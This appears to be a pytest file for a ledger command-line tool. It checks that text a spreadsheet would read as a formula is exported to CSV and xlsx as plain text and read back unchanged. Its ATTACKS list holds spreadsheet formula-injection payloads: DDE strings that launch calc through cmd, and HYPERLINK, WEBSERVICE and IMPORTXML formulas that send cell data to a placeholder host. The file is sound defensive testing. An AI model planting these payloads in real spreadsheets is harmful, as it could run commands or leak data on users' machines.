"""Text that a spreadsheet would take for a formula is exported as text, and read back as typed."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import zipfile
from collections.abc import Iterable, Mapping
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from command_line import Socai, event
from socai.domain.catalogue import TYPES
from socai.domain.fields import check, specs
from socai.domain.refusal import Message
from socai.domain.text import hides, normal
from socai.domain.unit import UnitRegistered
from socai.infra.cli import printing
from socai.infra.files.reading import read_rows
from socai.infra.files.rows import statement
from socai.infra.files.tables.formulas import shielded, unshielded
from socai.infra.files.templates.template import write_template
from socai.infra.files.templates.template_columns import label

ATTACKS = (
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    '=HYPERLINK("http://a.example/?q="&A1,"bấm vào đây")', '=WEBSERVICE("http://a.example")',
    '=IMPORTXML(CONCAT("http://a.example/?v=",A1),"//a")', "=IMAGE(A1)", "=-1", "--1", "-1+1",
    "+84", "-5", "- 5", "=", "+", "-", "@", "@tài khoản", "-thôn Một", "+ thôn Hai", "=thôn Ba",
    '="a"&CHAR(61)', "=A1\n=A2", "=1,2", "=1;2", '"=1+1"', "'=1+1", "''=1+1", "'-5",
)  # fmt: skip
UNSEEN = ("", " ", "  ", "\t", "\r", "\n", "\0", "\ufeff", "\ufeff ", "\u00a0", "\u3000", "\r\n")
SIGNS = "=+-@＝＋－＠"
PAYLOADS = tuple(
    dict.fromkeys([*ATTACKS, *(f"{unseen}{sign}1+1" for unseen in UNSEEN for sign in SIGNS)])
)
HARMLESS = (
    "", "thôn Một", "12.998", "5-1", "a=1", "a@b", "xã Châu Hóa (tuyen-hoa/chau-hoa)",
    "– nét ngang", "'nguyên văn'", "''", "'", "«=1+1»", "(=1+1)", "1\r=1+1", "\ufeffthôn", " thôn",
)  # fmt: skip
# What a spreadsheet computes when it opens a sheet, after what it does not show.
FORMULA = re.compile("[\\s\ufeff]*[=+\\-@＝＋－＠\t\r\0]")


def printed_csv(columns: list[str], rows: Iterable[Mapping[str, Any]]) -> str:
    """Return what is printed as CSV."""
    printed = io.StringIO(newline="")
    with contextlib.redirect_stdout(printed):
        printing.print_csv(columns, rows)
    return printed.getvalue()


def cells(text: str) -> list[list[str]]:
    """Return the cells of a CSV, its head first."""
    return list(csv.reader(io.StringIO(text, newline="")))


def no_formula(rows: Iterable[Iterable[str]]) -> bool:
    """Return whether no text of these rows would be computed; numbers may stand there."""
    texts = [cell for row in rows for cell in row if not re.fullmatch(r"-?[0-9]+", cell)]
    return bool(texts) and not any(FORMULA.match(cell) for cell in texts)


def test_there_are_many_payloads() -> None:
    assert len(PAYLOADS) >= 60
    assert sum(FORMULA.match(payload) is not None for payload in PAYLOADS) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_csv_is_text_as_typed(payload: str) -> None:
    printed = printed_csv(["id", "name"], [{"id": 1, "name": payload}, {"id": 2, "name": "sau"}])
    head, row, after = cells(printed)
    assert (head, after) == (["id", "name"], ["2", "sau"])
    assert no_formula([row])
    assert unshielded(row[1]) == payload


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert shielded(text) == unshielded(text) == text
    assert cells(printed_csv(["a", "b"], [{"a": text, "b": "x"}]))[1] == [text, "x"]


def test_an_apostrophe_that_was_typed_comes_back() -> None:
    """Else a text that looks as if it were shielded would lose its own apostrophe."""
    for payload in PAYLOADS:
        for typed in (payload, f"'{payload}", f"''{payload}"):
            assert unshielded(shielded(typed)) == typed


def test_numbers_and_other_values_are_untouched() -> None:
    row = {"a": -5, "b": -1.5, "c": None, "d": True, "e": 0, "f": ["=1", "b"], "g": {"k": "=1"}}
    (found,) = cells(printed_csv(list(row), [row]))[1:]
    assert found == ["-5", "-1.5", "", "true", "0", "'=1,b", '{"k": "=1"}']


def test_heads_are_text_as_well() -> None:
    assert cells(printed_csv(["=1+1"], [{"=1+1": "x"}])) == [["'=1+1"], ["x"]]


def test_json_is_untouched(capsys: pytest.CaptureFixture[str]) -> None:
    printing.print_json([{"name": payload} for payload in PAYLOADS])
    assert [row["name"] for row in json.loads(capsys.readouterr().out)] == list(PAYLOADS)


def storable() -> list[str]:
    """Return the payloads that the ledger takes as names, as it keeps them."""
    (name,) = (spec for spec in specs(TYPES["UnitRegistered"]) if spec.name == "name")
    found = dict.fromkeys(normal(payload) for payload in PAYLOADS)
    return [check(name, text) for text in found if not hides(text)]


@pytest.mark.parametrize("name", storable())
def test_what_csv_exports_is_imported_as_typed(name: str, tmp_path: Path) -> None:
    path = tmp_path / "don-vi.csv"
    row = event("UnitRegistered", "unit-a", "2008-01-01", kind="tinh", name=name, quote=name)
    path.write_text(printed_csv(list(row), [row]), encoding="utf-8", newline="")
    wrong: list[Message] = []
    ((place, found),) = read_rows(path, wrong, [])
    said = statement(found, "x", table=place.table)
    assert (said.event, wrong) == (UnitRegistered(kind="tinh", name=name), [])
    assert said.source.quote == name


@pytest.fixture
def attacked(socai: Socai) -> Socai:
    """Return a ledger where units bear the payloads as names, and cite them."""
    rows = [
        event("UnitRegistered", f"unit-p{number:03d}", "2008-01-01", kind="tinh", name=name,
              quote=name, reason=name, event_id=f"p{number:03d}", document="bao-cao-2021")
        for number, name in enumerate(storable())
    ]  # fmt: skip
    ran = socai("import", socai.file(*rows, name="payloads.jsonl"))
    assert ran.code == 0, ran.err
    return socai


def test_names_of_the_ledger_in_csv_are_text(attacked: Socai) -> None:
    head, *rows = cells(attacked("units", "--format", "csv").out)
    named = {row[0]: unshielded(row[head.index("name")]) for row in rows}
    assert [named[f"p{number:03d}"] for number in range(len(storable()))] == storable()
    assert no_formula(rows)


def test_the_log_in_csv_is_text(attacked: Socai) -> None:
    head, *rows = cells(attacked("log", "--format", "csv").out)
    found = {row[head.index("event_id")]: json.loads(row[head.index("fields")]) for row in rows}
    assert [found[f"p{n:03d}"]["name"] for n in range(len(storable()))] == storable()
    assert no_formula(rows)


def test_a_stream_in_csv_is_text_with_its_quotes(attacked: Socai) -> None:
    head, row = cells(attacked("show", "unit-p000", "--format", "csv").out)
    assert storable()[0] in row[head.index("events")]
    assert no_formula([row])


def test_json_of_the_ledger_is_as_typed(attacked: Socai) -> None:
    said = [row for row in attacked.json("log") if row["event_id"].startswith("p")]
    for field in ("name", "quote", "reason"):
        assert [row[field] for row in said] == storable()


def texts(path: Path) -> list[tuple[str, str]]:
    """Return the type and the text of every cell of a workbook."""
    book = openpyxl.load_workbook(path)
    return [(cell.data_type, str(cell.value)) for sheet in book for row in sheet for cell in row
            if cell.value is not None]  # fmt: skip


def test_a_workbook_with_payloads_has_no_formula(tmp_path: Path) -> None:
    path = tmp_path / "to-chuc.xlsx"
    payloads = tuple(text for text in PAYLOADS if text.isprintable())
    write_template("organisation", path, {"unit": payloads})
    found = texts(path)
    assert {kind for kind, _ in found} == {"s"}
    assert set(payloads) <= {text for _, text in found}
    with zipfile.ZipFile(path) as parts:
        assert not [name for name in parts.namelist() if b"<f>" in parts.read(name)]


def test_names_of_the_ledger_in_a_workbook_are_text(attacked: Socai) -> None:
    path = attacked.folder / "mau.xlsx"
    assert attacked("template", "model_site", str(path)).code == 0
    found = texts(path)
    assert {kind for kind, _ in found} == {"s"}
    labels = [label(name, f"p{number:03d}") for number, name in enumerate(storable())]
    assert set(labels) <= {text for _, text in found}
    assert "=1+1 (p000)" in labels


def test_links_stay_text(tmp_path: Path) -> None:
    path = tmp_path / "to-chuc.xlsx"
    write_template("organisation", path, {"unit": ("http://a.example/x", "internal:A1!A1")})
    book = openpyxl.load_workbook(path)
    assert not [cell for sheet in book for row in sheet for cell in row if cell.hyperlink]
    assert ("s", "http://a.example/x") in texts(path)
